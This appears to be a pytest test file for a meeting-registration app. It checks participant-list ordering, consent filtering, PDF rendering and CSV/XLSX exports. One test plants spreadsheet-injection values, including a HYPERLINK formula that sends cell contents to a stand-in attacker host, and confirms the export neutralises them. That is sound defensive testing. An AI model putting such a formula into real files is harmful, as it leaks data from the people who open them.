"""Lists of participants (HTML, PDF) and exports (CSV, XLSX): order, fields, scripts, safety."""

import csv
import io

import pytest
from openpyxl import load_workbook

from meetingapp.extensions import db
from meetingapp.models import Delegate, Invitation
from meetingapp.registrations.exports import COLUMNS
from meetingapp.registrations.notify import issue_page_link
from tests.factories import DelegateFactory, OrganisationFactory
from tests.invitation_helpers import upcoming_meeting
from tests.registration_helpers import accepted_invitation, pdf_text

ARABIC, CHINESE, RUSSIAN = "فاطمة الزهراء", "王小明", "Ирина Петрова"


@pytest.fixture
def meeting_id(app):
    """A meeting with five delegations of three kinds, in a muddled order of creation."""
    with app.test_request_context():
        meeting = upcoming_meeting(title="Third Special Meeting")

        def delegation(name, acronym, kind, *people):
            invitation_id, _ = accepted_invitation(
                meeting, OrganisationFactory(name=name, acronym=acronym, kind=kind))
            invitation = db.session.get(Invitation, invitation_id)
            for role, family, status, consent, given in people:
                DelegateFactory(invitation=invitation, role=role, family_name=family,
                                given_name=given, status=status, consent_to_publish=consent)

        delegation("Economic Community of West African States", "ECOWAS", "sub-regional",
                   ("delegate", "Zongo", "approved", True, "Ali"))
        delegation("World Customs Organization", "WCO", "international",
                   ("adviser", "Abe", "approved", True, "Ken"),
                   ("delegate", "Yilmaz", "approved", True, "Ece"),
                   ("head", "Mikuriya", "approved", True, "Kunio"),
                   ("observer", "Pending", "pending", True, "Per"))
        delegation("League of Arab States", "LAS", "regional",
                   ("delegate", ARABIC, "approved", True, ""),
                   ("delegate", "Rejected", "rejected", True, "Rex"),
                   ("head", "Moussa", "approved", False, "Amr"))
        delegation("International Civil Aviation Organization", "ICAO", "international",
                   ("delegate", CHINESE, "approved", True, ""),
                   ("head", RUSSIAN, "approved", True, ""))
        delegation("African Union", "AU", "regional", ("observer", "Withdrawn", "withdrawn",
                                                       True, "Wil"))
        db.session.commit()
        return meeting.id


# The list-of-participants order: kind, organisation A-Z, head first, then by role.
EXPECTED = ["Ирина Петрова", "王小明", "Kunio Mikuriya", "Ece Yilmaz", "Ken Abe",
            "Amr Moussa", ARABIC, "Ali Zongo"]


# The same in the list-of-participants style: the family name in capitals.
LISTED = ["ИРИНА ПЕТРОВА", "王小明", "Kunio MIKURIYA", "Ece YILMAZ", "Ken ABE", "Amr MOUSSA",
          ARABIC, "Ali ZONGO"]


def _in_order(text: str, names: list[str]) -> bool:
    positions = [text.find(n) for n in names]
    return -1 not in positions and positions == sorted(positions)


def test_html_list_is_in_united_nations_order_with_approved_only(staff_client, meeting_id):
    response = staff_client.get(f"/meetings/{meeting_id}/registrations/participants")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert _in_order(page, ["International organizations", "Regional organizations",
                            "Sub-regional organizations"])
    assert _in_order(page, ["International Civil Aviation Organization",
                            "World Customs Organization", "League of Arab States",
                            "Economic Community of West African States"])
    assert _in_order(page, LISTED)
    assert _in_order(page, ["Head of delegation", "Delegates", "Advisers"])
    for absent in ("Pending", "Rejected", "Withdrawn", "African Union"):
        assert absent not in page
    assert "8 participant(s)" in page and "css/print.css" in page


def test_published_version_lists_only_those_who_consented(app, staff_client, meeting_id):
    page = staff_client.get(f"/meetings/{meeting_id}/registrations/participants?published=1"
                            ).get_data(as_text=True)
    assert "MOUSSA" not in page and _in_order(page, [n for n in LISTED if n != "Amr MOUSSA"])
    text = pdf_text(staff_client.get(
        f"/meetings/{meeting_id}/registrations/participants.pdf?published=1").data)
    assert "MOUSSA" not in text and "MIKURIYA" in text
    # Delegates see the published version through their own link.
    with app.test_request_context():
        delegate = db.session.scalars(db.select(Delegate).where(
            Delegate.family_name == "Zongo")).one()
        token = issue_page_link(delegate).rsplit("/", 1)[1]
        db.session.commit()
    client = app.test_client()
    page = client.get(f"/d/{token}/participants").get_data(as_text=True)
    assert "MOUSSA" not in page and _in_order(page, ["MIKURIYA", ARABIC, "ZONGO"])
    pdf = client.get(f"/d/{token}/participants.pdf")
    assert pdf.mimetype == "application/pdf" and "MOUSSA" not in pdf_text(pdf.data)


def test_pdf_list_keeps_order_and_every_script(staff_client, meeting_id):
    response = staff_client.get(f"/meetings/{meeting_id}/registrations/participants.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF-")
    assert response.headers["Content-Disposition"].startswith("attachment;")
    text = pdf_text(response.data)
    for name in (ARABIC, CHINESE, RUSSIAN.upper()):
        assert name in text
    assert _in_order(text, ["MIKURIYA", "YILMAZ", "ABE", "MOUSSA", "ZONGO"])
    assert _in_order(text, [RUSSIAN.upper(), CHINESE])
    assert "Pending" not in text and "Rejected" not in text


def _csv(staff_client, meeting_id, query="?status=approved"):
    response = staff_client.get(f"/meetings/{meeting_id}/registrations/export.csv{query}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _xlsx(staff_client, meeting_id, query="?status=approved"):
    response = staff_client.get(f"/meetings/{meeting_id}/registrations/export.xlsx{query}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


def _names(rows):
    header = rows[0]
    given, family = header.index("Given name"), header.index("Family name")
    return [f"{r[given] or ''} {r[family]}".strip() for r in rows[1:]]


def test_csv_and_xlsx_have_every_field_in_list_order_and_every_script(staff_client,
                                                                      meeting_id):
    rows = _csv(staff_client, meeting_id)
    assert rows[0] == [heading for heading, _ in COLUMNS]
    assert _names(rows) == EXPECTED
    _, xlsx_rows = _xlsx(staff_client, meeting_id)
    assert xlsx_rows[0] == rows[0] and _names(xlsx_rows) == EXPECTED
    header = rows[0]
    mikuriya = dict(zip(header, rows[3], strict=True))
    assert mikuriya["Organisation"] == "World Customs Organization"
    assert mikuriya["Role"] == "Head of delegation" and mikuriya["Nationality"] == "France"
    assert mikuriya["Status"] == "Approved" and mikuriya["Preferred language"] == "English"
    # Without a status filter every registration is exported, withdrawn ones included.
    everything = _csv(staff_client, meeting_id, "")
    assert {r[header.index("Status")] for r in everything[1:]} == {
        "Approved", "Awaiting approval", "Not approved", "Withdrawn"}


def test_a_cell_that_would_run_as_a_formula_is_neutralised(app, staff_client, meeting_id):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.app_context():
        invitation = db.session.scalars(db.select(Invitation)).first()
        DelegateFactory(invitation=invitation, family_name=formula, position="+1+1",
                        needs="@SUM(A1:A9)", status="approved")
    rows = _csv(staff_client, meeting_id)
    header = rows[0]
    [row] = [r for r in rows if "HYPERLINK" in r[header.index("Family name")]]
    assert row[header.index("Family name")] == "'" + formula
    assert row[header.index("Position")] == "'+1+1"
    assert row[header.index("Accessibility or other needs")] == "'@SUM(A1:A9)"
    sheet, _ = _xlsx(staff_client, meeting_id)
    [cell] = [c for c in sheet["H"] if c.value == formula]
    assert cell.data_type == "s"  # stored as text: the spreadsheet shows it, never runs it


def test_exports_and_lists_are_for_staff_only(app, client, checkin_client, meeting_id):
    for path in ("export.csv", "export.xlsx", "participants", "participants.pdf"):
        url = f"/meetings/{meeting_id}/registrations/{path}"
        assert client.get(url).status_code == 302
        assert checkin_client.get(url).status_code == 403


def test_an_organisation_no_longer_accepted_is_not_listed(app, staff_client, meeting_id):
    with app.app_context():
        wco = db.session.scalar(db.select(Delegate).where(
            Delegate.family_name == "Mikuriya")).invitation
        wco.status = "revoked"
        db.session.commit()
    page = staff_client.get(f"/meetings/{meeting_id}/registrations/participants"
                            ).get_data(as_text=True)
    assert "World Customs Organization" not in page and "MIKURIYA" not in page
    assert "7 participant(s)" not in page and "5 participant(s)" in page
